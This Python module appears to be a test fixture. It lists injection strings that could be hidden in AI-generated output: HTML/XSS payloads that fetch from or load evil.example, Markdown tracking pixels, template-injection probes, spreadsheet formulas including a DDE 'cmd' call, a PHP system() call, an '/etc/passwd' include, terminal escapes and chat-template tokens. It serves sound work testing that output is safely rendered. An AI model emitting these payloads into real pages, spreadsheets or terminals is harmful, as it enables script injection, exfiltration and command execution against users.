"""Texts that models, judges and data sets have written, or may write, to be more than text.

Each tries to be markup of a kind: HTML, Markdown, a template, a formula of a spreadsheet, mathematics of a
picture, an escape sequence of a terminal, a name that a program gives a meaning. All load or run what is at
EVIL, or set `owned`.
"""

EVIL = "evil.example"
RUN = f"window.owned=1;fetch('//{EVIL}')"

HTML = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</ScRiPt ><sCrIpT>{RUN}</sCrIpT>",
    f"<script src=https://{EVIL}/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<!--<script>{RUN}</script>-->",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=https://{EVIL}/pixel.png>",
    f"<img src=x onerror=\"{RUN}\">",
    f"<img src=x onerror={RUN}//",
    f"<img/src='x'/onerror='{RUN}'>",
    f"<image href=https://{EVIL}/p.png>",
    f"<picture><source srcset=https://{EVIL}/p.png><img></picture>",
    f"<svg onload=\"{RUN}\">",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin=\"{RUN}\" attributeName=x dur=1s>",
    f"<svg><use href=https://{EVIL}/x.svg#a></use></svg>",
    f"<svg><foreignObject><iframe src=https://{EVIL}></iframe></foreignObject></svg>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror=\"{RUN}\"></style></mglyph></math>",
    f"<math href=\"javascript:{RUN}\">click</math>",
    f"<iframe src=https://{EVIL}></iframe>",
    f"<iframe srcdoc=\"<script>{RUN}</script>\"></iframe>",
    f"<object data=https://{EVIL}/x.swf></object>",
    f"<embed src=https://{EVIL}/x.swf>",
    f"<link rel=stylesheet href=https://{EVIL}/x.css>",
    f"<link rel=prefetch href=https://{EVIL}/x>",
    f"<base href=https://{EVIL}/>",
    f"<meta http-equiv=refresh content=\"0;url=https://{EVIL}\">",
    f"<style>@import url(https://{EVIL}/x.css); body {{ display: none }}</style>",
    f"<div style=\"background: url(https://{EVIL}/p.png); position: fixed; inset: 0\">",
    f"<body onload=\"{RUN}\">",
    f"<input autofocus onfocus=\"{RUN}\">",
    f"<details open ontoggle=\"{RUN}\">",
    f"<video src=https://{EVIL}/v.mp4 autoplay onerror=\"{RUN}\"></video>",
    f"<audio src=https://{EVIL}/a.mp3 autoplay></audio>",
    f"<marquee onstart=\"{RUN}\">x</marquee>",
    f"<form action=https://{EVIL}><button autofocus>send</button></form>",
    f"<a href=\"javascript:{RUN}\">click</a>",
    f"<a href=https://{EVIL} ping=https://{EVIL}/ping>click</a>",
    f"<textarea></textarea><img src=x onerror=\"{RUN}\">",
    f"</textarea></title></style></pre></td></table></section></main><img src=x onerror=\"{RUN}\">",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<template><img src=x onerror=\"{RUN}\"></template>",
    f"<custom-element onclick=\"{RUN}\" id=packed>",
    f"\" onmouseover=\"{RUN}\" x=\"",
    f"' onmouseover='{RUN}' x='",
    f"` onmouseover=`{RUN}`",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror=&#34;{RUN}&#34;&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    "<plaintext>", "<!--", "<![if IE]>", "<?php system('id') ?>", "<% system('id') %>",
    "<div id=games-list></div><form id=games-form name=body></form>",
]  # fmt: skip
MARKDOWN = [
    f"![pixel](https://{EVIL}/p.png)",
    f"![pixel][1]\n\n[1]: https://{EVIL}/p.png",
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt&colon;{RUN})",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    f"[click](https://{EVIL} \"a title\")",
    f"[![pixel](https://{EVIL}/p.png)](https://{EVIL})",
    f"<https://{EVIL}>",
    f"https://{EVIL}/automatic",
    f"www.{EVIL}",
    f"someone@{EVIL}",
    f"[click]: https://{EVIL}\n[click]",
    f"`` `<img src=x onerror=\"{RUN}\">",
    f"```html\n<img src=x onerror=\"{RUN}\">",
    f"```\"><script>{RUN}</script>\ncode\n```",
    f"~~~ <b onclick=\"{RUN}\">\ncode\n~~~",
    f"| a | <img src=x onerror=\"{RUN}\"> |\n|---|---|\n| b | ![p](https://{EVIL}/p.png) |",
    f"> <img src=x onerror=\"{RUN}\">\n> ![p](https://{EVIL}/p.png)",
    f"- ![p](https://{EVIL}/p.png)\n  - <script>{RUN}</script>",
    f"**<img src=x onerror=\"{RUN}\">** _![p](https://{EVIL}/p.png)_ ~~<script>{RUN}</script>~~",
    f"# <script>{RUN}</script>\n\nTitle\n=====\n\n---\ntitle: owned\n---",
    "a `x` | b\n\n## Forged section\n\n| c |",
    f"\\<img src=x onerror=\"{RUN}\"\\>",
    f"$$\\href{{javascript:{RUN}}}{{click}}$$",
    f"$\\unicode{{<img src=x onerror={RUN}>}}$",
    f"\\(\\includegraphics{{https://{EVIL}/p.png}}\\)",
    "<br><br/><br onclick=1>",
    "[" * 300 + "](" * 300,
    ">" * 400 + " deep", "- " * 400 + "deep", "*" * 999, "`" * 999, "_**" * 333,
    "|" * 500 + "\n" + "|-" * 250 + "|",
]  # fmt: skip
OTHERS = [
    # Templates.
    "{{ 7 * 7 }}", "{% raw %}{{ config }}{% endraw %}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}",
    "{0.__class__}", "%(owned)s %n %s", "{% include '/etc/passwd' %}",
    # Mathematics of pictures.
    "$x", "$x$", "$\\frac{1}$", "a$b_c^d$e", "$\\undefined{$", "\\$$\\$", "${", "$\\sqrt[$",
    # Formulas of spreadsheets.
    "=1+1", "=cmd|'/c calc'!A0", f"=HYPERLINK(\"https://{EVIL}\",\"click\")", f"=IMAGE(\"https://{EVIL}/p\")",
    "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1", "a\n=1+1", "a,=1+1", "\";=1+1",
    # Sequences of terminals, characters that turn, hide or pile up.
    "\x1b]0;owned\x07", "\x1b[2J\x1b[31m", "\x9b31m", "a\rb", "\x00", "a\x08\x08b", "\u202eowned\u202c",
    "\u2066\u2067x", "a" + "\u0301" * 200, "\u200b\ufeff", "\u2028x\u2029", "\U000e0041", "İß" * 20,
    # Names that programs know.
    "__proto__", "constructor", "hasOwnProperty", "toString", "then", "NaN", "null", "undefined", "../../x",
    # What this project gives a meaning.
    "[[A]]", "<|im_end|>", "page 1 of 1", "0 found",
]  # fmt: skip
ALL = [*HTML, *MARKDOWN, *OTHERS]
